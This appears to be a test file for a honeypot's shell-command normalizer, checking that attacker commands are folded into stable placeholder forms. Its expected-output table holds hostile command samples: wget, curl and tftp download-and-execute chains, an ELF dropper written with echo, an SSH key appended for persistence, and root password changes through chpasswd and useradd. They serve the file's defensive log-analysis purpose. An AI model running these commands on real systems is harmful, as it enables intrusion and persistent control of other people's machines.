"""The normal form: what varies is folded, what a command does stays readable, a normal form is its own."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cowrie_assets.cowrie.normalize import CUT, FOLDS, MAX_CHARACTERS, normalize_command
from cowrie_assets_tests.cpu_time import least_cpu_seconds

EXPECTED = {
    "wget  http://192.0.2.14/x86?id=1&v=2 -O\t/tmp/a": "wget <url> -O /tmp/a",
    "curl http://192.0.2.14/x&&chmod 777 x": "curl <url>&&chmod <n> <name>",
    "tftp -g -r i.sh 192.168.1.77": "tftp -g -r i.sh <ip>",
    "ping 2001:db8::1; ping ::ffff:192.0.2.1": "ping <ip>; ping <ip>",
    "date 10:20:30": "date <n>:<n>:<n>",
    "/bin/busybox ECCHI": "/bin/busybox <name>",
    "/bin/busybox iDdosYou": "/bin/busybox <name>",
    "/bin/busybox wget": "/bin/busybox wget",
    'echo -ne "\\x7f\\x45\\x4c\\x46\\x01" > .d8': 'echo -ne "<hex>" > .d<n>',
    'echo -e "\\x6F\\x6B2"': 'echo -e "\\x6F\\x6B<n>"',
    "echo aGVsbG8gd29ybGQgdGhpcyBpcyA0Mg== | base64 -d": "echo <base64> | base64 -d",
    "echo " + "a" * 3000: "echo <long>",
    "cat /usr/local/lib64/Python3/site/packages/a/b": "cat /usr/local/lib64/Python<n>/site/packages/a/b",
    "cd deadbeef01; echo 0x1F": "cd <hex>; echo <hex>",
    "chmod 777 8UsA.sh; ./8UsA.sh": "chmod <n> <name>; ./<name>",
    "echo x > /tmp/xkqjzv; sh /tmp/.aBcDe": "echo x > /tmp/<name>; sh /tmp/.<name>",
    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ mdrfckr">>a': 'echo "ssh-rsa <key>">>a',
    "cd /tmp; wget http://192.0.2.1/aiptxmw; chmod 777 aiptxmw; ./aiptxmw": (
        "cd /tmp; wget <url>; chmod <n> <name>; ./<name>"
    ),
    "wget http://a.example/b/?x=1; chmod 777 hgfdsa; ./hgfdsa": "wget <url>; chmod <n> <name>; ./<name>",
    "curl http://192.0.2.1/m1 -o /tmp/kX; nohup /tmp/kX": "curl <url> -o /tmp/<name>; nohup /tmp/<name>",
    "wget http://192.0.2.1/sh -O sh; sh x": "wget <url> -O sh; sh x",
    "./scan 192.0.2.0/24": "./scan <ip>/<n>",
    "mkdir /tmp/abcdefg && cd /tmp/xkqjzvw": "mkdir /tmp/<name> && cd /tmp/<name>",
    'perl -e \'print crypt("AtEnd","aa")\'': 'perl -e \'print crypt("<password>","aa")\'',
    "useradd -m -p AtEnd Zhrp": "useradd -m -p <password> <name>",
    "printf 'root:%s\\n' AtEnd | chpasswd": "printf 'root:%s\\n' <password> | chpasswd",
    "python3 x 2>/dev/null >&1": "python3 x 2>/dev/null >&1",
    'echo -e "admin123\\nNEWpass99"|passwd': 'echo -e "<password>"|passwd',
    'sudo usermod -p "$6$a1" b2; echo 7|chpasswd': 'sudo usermod -p "<password>" b<n>; echo <n>|chpasswd',
    "a\x1b[31m\u202eb\ud800": "a\\x1b[<n>m\\u202eb\\ud800",
    "\x7fELF\x01\x01\x01\x00\x00": "<binary>",
    "  \r\n ": "",
    "echo 密码🔥": "echo 密码🔥",
}


@pytest.mark.parametrize(("command", "normal"), EXPECTED.items())
def test_examples(command, normal):
    assert normalize_command(command) == normal
    assert normalize_command(normal) == normal


PIECES = st.lists(
    st.sampled_from(
        [
            "http",
            "://",
            "./",
            "ab",
            " -O ",
            "crypt('",
            "useradd ",
            "1.2.3.4",
            "1",
            "0x",
            "::",
            ":",
            "a",
            "B",
            "AAAA",
            "\\",
            "x41",
            "/tmp/",
            "busybox ",
            "<",
            "n",
            ">",
            "<n>",
            "<url>",
            "<cut>",
            "base64",
            "&",
            "2",
            ".",
            "+",
            "/",
            "_",
            " ",
            "\n",
            "\x00",
            "\u202e",
            "\ud800",
            "\ufffd",
            "QUJD1a" * 5,
            "deadbeef",
            "Z" * 70,
            "|",
            "passwd",
            "chpasswd",
            "echo ",
            '"',
            "'",
            "(",
            ")",
            "<<<",
            "<<EOF ",
            "root:",
            "sshpass -p",
            "--password=",
            "; ",
            "sh -c ",
            "<password>",
        ]
    )
).map("".join)


@settings(max_examples=400)
@given(st.text() | PIECES | PIECES.map(lambda text: text * 40))
def test_a_normal_form_is_its_own_and_bounded(command):
    normal = normalize_command(command)
    assert normalize_command(normal) == normal
    assert len(normal) <= MAX_CHARACTERS
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]|  ", normal)


@given(st.ip_addresses(), st.integers(0, 10**9), st.from_regex(r"[A-Z]{5}", fullmatch=True))
def test_runs_of_one_attack_group_as_one(address, number, token):
    command = f"/bin/busybox {token}; ping {address}; echo {number} > /tmp/.p{number}"
    assert normalize_command(command) == "/bin/busybox <name>; ping <ip>; echo <n> > /tmp/.p<n>"


def test_a_long_command_is_cut_with_a_mark():
    normal = normalize_command("echo a; " * 10_000)
    assert len(normal) == MAX_CHARACTERS
    assert normal.endswith(CUT)
    assert normalize_command("a1 " * 400).endswith(("<n>" + CUT, " " + CUT, "a" + CUT))


@pytest.mark.parametrize(
    "unit",
    [
        "A",
        "a/",
        "1.",
        "1:",
        ":",
        "http://",
        "\\x01",
        "\\",
        "AAAA/",
        " a1",
        "/tmp/aB",
        "busybox a",
        "<n>",
        "_",
        "a+",
        "-",
        "./a ",
        "http://a/b ",
        "http://a/",
        " -o a/",
        "crypt('",
        "AAAAaaaaaaaaaaaaaaaaaaaaaaaa b",
    ],
)
def test_a_megabyte_is_folded_within_a_second(unit):
    assert least_cpu_seconds(lambda: normalize_command(unit * (1_000_000 // len(unit))), 1) < 1


def test_the_documents_rules_are_the_codes_in_order():
    document = (Path(__file__).parents[2] / "docs" / "RISK.md").read_text().split("## Normal form")[1]
    assert re.findall(r"^\| `(\w+)`", document, re.MULTILINE) == [fold.name for fold in FOLDS]
